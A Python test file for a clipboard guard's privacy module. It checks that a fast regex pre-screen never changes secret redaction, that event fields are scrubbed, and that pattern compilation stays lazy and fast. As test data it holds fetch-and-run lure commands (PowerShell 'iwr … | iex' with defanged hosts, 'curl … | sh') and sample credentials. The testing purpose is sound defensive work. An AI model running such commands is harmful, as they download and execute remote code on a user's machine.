"""The screen in front of redaction: it may only skip work, never a secret.

`redact` and `scrub_event` first ask `may_hold_secret` whether any pattern matches at all and
skip the 26 substitutions when none does. These tests hold the screened redaction to the
unscreened one, on generated credentials inside lures and on text around them, and check that
a secret in any one field of an event is still found when the fields are screened together.
"""

from __future__ import annotations

from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from app import privacy
from app.events import Event, scrub_event
from tests.test_privacy import LURES, credential

# Pieces of ordinary and hostile text to put around a credential (or to stand alone).
PIECES = (
    "",
    "powershell -w hidden -c iwr hxxps://cdn7[.]example/p.ps1 | iex",
    "# I am not a robot - Verification ID: 4417",
    "https://example.com/a?b=c&d=e",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAK",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "AKIAIOSFODNN7EXAMPLE",
    "Authorization:",
    "token",
    "\n",
    "ünïcödé ✓",
)


def _redact_unscreened(text: str) -> str:
    """What `redact` did before the screen: every pattern's substitution, in order."""
    text = privacy._encodable(text)
    for kind, pattern in privacy._SECRETS:
        text = privacy._redact_with(kind, pattern, text)
    return text


texts = st.one_of(
    st.builds(
        lambda before, pair, after, lure: lure.format(form=before + pair[0] + after),
        st.sampled_from(PIECES),
        credential(),
        st.sampled_from(PIECES),
        st.sampled_from((*LURES, "{form}")),
    ),
    st.lists(st.sampled_from(PIECES), max_size=4).map(" ".join),
    st.text(max_size=200),
)


@settings(max_examples=300, deadline=None)
@given(texts)
def test_the_screen_never_changes_what_redaction_returns(text: str) -> None:
    expected = _redact_unscreened(text)
    assert privacy.redact(text) == expected
    if expected != text:
        assert privacy.may_hold_secret(text)


def _event(**fields: Any) -> Event:
    return Event(kind="clipboard_flagged", level="malicious", summary="A lure", **fields)


@settings(max_examples=100, deadline=None)
@given(credential(), st.sampled_from(("text", "source", "evidence", "value", "display")))
def test_a_secret_in_any_one_field_of_an_event_is_redacted(
    pair: tuple[str, str], where: str
) -> None:
    form, secret = pair
    plain = "powershell -w hidden -c iwr hxxps://cdn7[.]example/p.ps1 | iex"
    text = form if where == "text" else plain
    source = form if where == "source" else "hxxps://captcha[.]example/verify"
    evidence = form if where == "evidence" else "iwr … | iex"
    value = form if where == "value" else "https://cdn7.example/p.ps1"
    display = form if where == "display" else "…"
    event = _event(
        text=text,
        source=source,
        findings=({"rule_id": "x", "evidence": evidence},),
        indicators=({"kind": "url", "value": value, "display": display},),
    )
    scrubbed = scrub_event(event)
    quoted = {
        "text": scrubbed.text,
        "source": scrubbed.source,
        "evidence": scrubbed.findings[0]["evidence"],
        "value": scrubbed.indicators[0]["value"],
        "display": scrubbed.indicators[0]["display"],
    }
    assert secret not in quoted[where], (form, where)
    assert quoted[where] == privacy.redact(form)
    # the fields without a secret are left as they were
    assert all(v == privacy.redact(v or "") or not v for k, v in quoted.items() if k != where)


def test_an_event_without_secrets_is_returned_as_it_is() -> None:
    event = _event(
        text="powershell -w hidden -c iwr hxxps://cdn7[.]example/p.ps1 | iex",
        source="hxxps://captcha[.]example/verify",
        findings=({"rule_id": "x", "evidence": "iwr … | iex"},),
    )
    assert scrub_event(event) is event


def test_text_full_of_word_boundaries_stays_on_the_fast_engine() -> None:
    """The user:password@ pattern once bounded both sides with {0,200}: on text where every
    character starts a word boundary RE2's DFA ran out of memory and fell back to its slow
    engine (880 ms of CPU for 256 KiB of random `ab_%\\xyZ`, 3 s for 1 MiB, in the guard's
    event path). Unbounded runs of the same classes find the same secrets and stay on the DFA
    (about 2 ms here); the limit below leaves a hundredfold margin for a busy machine."""
    import random
    import time

    rng = random.Random(1)
    for alphabet in ("ab_%\\xyZ", "ab_%\\xyZ:@"):
        text = "".join(rng.choices(alphabet, k=256 * 1024))
        started = time.thread_time()
        privacy.may_hold_secret(text)
        privacy.redact(text)
        assert time.thread_time() - started < 0.5, alphabet


def test_a_password_longer_than_200_characters_in_an_address_is_redacted() -> None:
    secret = "s3cr3t" * 50  # 300 characters
    redacted = privacy.redact(f"git clone https://deploy:{secret}@git.example/x.git")
    assert secret not in redacted and "[REDACTED:url-password]" in redacted


def _screens_by_search(*texts: str) -> bool:
    """`may_hold_secret` through the binding's own `search`, as before it called RE2 directly."""
    joined = "\n".join(privacy._encodable(t) for t in texts).encode("utf-8")
    return any(screen.search(joined) is not None for screen in privacy._SCREENS)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(PIECES),
            credential().map(lambda found: found[0]),
            st.text(max_size=60),  # lone surrogates, NULs, anything
        ),
        max_size=4,
    )
)
def test_calling_re2_directly_screens_as_the_bindings_search(texts: list[str]) -> None:
    assert privacy._SCREEN_MATCHERS is not None  # the fast path is the one tested here
    assert privacy.may_hold_secret(*texts) == _screens_by_search(*texts)


def test_no_pattern_matches_text_without_characters() -> None:
    """may_hold_secret answers False for empty texts without compiling anything: exact only
    while every pattern needs a character other than a newline or a space."""
    for blank in ("", "\n", "\n\n", " ", "\n \n"):
        for _kind, pattern in privacy._SECRETS:
            assert pattern.search(blank) is None, (_kind, blank)
        for screen in privacy._SCREENS:
            assert screen.search(blank.encode()) is None
    assert privacy.may_hold_secret("", "", "") is False


def test_the_patterns_are_compiled_when_first_needed_not_on_import() -> None:
    """Nothing on import or for a started event; the screens when warmed (the guard, once
    ready) or at the first text, and the redaction patterns only once a screen finds
    something, for a text that holds no secret as for one that does."""
    import subprocess
    import sys

    code = (
        "import app.privacy as p, app.events as e\n"
        "screens, patterns = p._screening.cache_info, p._secret_patterns.cache_info\n"
        "assert screens().currsize == patterns().currsize == 0, 'compiled on import'\n"
        "e.scrub_event(e.Event(kind='started'))\n"
        "assert screens().currsize == patterns().currsize == 0, 'compiled for a started event'\n"
        "p.warm()\n"
        "assert (screens().currsize, patterns().currsize) == (1, 0), 'patterns warmed'\n"
        "assert p.redact('iwr https://x.test/a.ps1 | iex') == 'iwr https://x.test/a.ps1 | iex'\n"
        "e.scrub_event(e.Event(kind='paste_blocked', text='curl -fsSL https://x.test/i | sh'))\n"
        "assert p.secrets_in('powershell -w h -c \"iwr https://x.test/1.ps1 | iex\"') == ()\n"
        "assert patterns().currsize == 0, 'compiled for a text without a secret'\n"
        "assert p.redact('password=hunter22') == 'password=[REDACTED:password-assignment]'\n"
        "assert patterns().currsize == 1\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
